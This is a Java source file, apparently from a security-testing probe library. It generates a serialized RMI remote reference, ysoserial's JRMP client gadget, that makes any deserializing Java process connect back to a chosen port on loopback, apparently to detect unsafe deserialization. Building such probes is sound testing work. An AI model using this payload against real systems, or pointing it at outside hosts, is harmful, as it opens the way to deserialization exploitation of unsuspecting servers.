// SPDX-License-Identifier: Apache-2.0
package dev.assay.probes.shipped;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutput;
import java.io.ObjectOutputStream;
import java.lang.reflect.Proxy;
import java.rmi.server.ObjID;
import java.rmi.server.RemoteObjectInvocationHandler;
import java.rmi.server.RemoteRef;

/**
 * A reference to a remote object as Java serialises it. The JDK announces each such reference that
 * it reads to where the object is said to live: whoever reads one with {@link
 * java.io.ObjectInputStream} calls that port, with no class but the JDK's own. (The JRMP client of
 * the project ysoserial.)
 */
final class CallingReference {
  private CallingReference() {}

  /** The bytes of a reference to something at a port of loopback. */
  static byte[] to(int port) throws IOException {
    RemoteRef reference =
        (RemoteRef)
            Proxy.newProxyInstance(
                CallingReference.class.getClassLoader(),
                new Class<?>[] {RemoteRef.class},
                (_, method, arguments) ->
                    switch (method.getName()) {
                      case "getRefClass" -> "UnicastRef"; // the JDK's own, which will read it
                      case "writeExternal" -> {
                        write((ObjectOutput) arguments[0], port);
                        yield null;
                      }
                      default -> throw new UnsupportedOperationException(method.getName());
                    });
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
      out.writeObject(new RemoteObjectInvocationHandler(reference));
    }
    return bytes.toByteArray();
  }

  private static void write(ObjectOutput out, int port) throws IOException {
    out.writeUTF("127.0.0.1");
    out.writeInt(port);
    new ObjID().write(out);
    out.writeBoolean(false);
  }
}
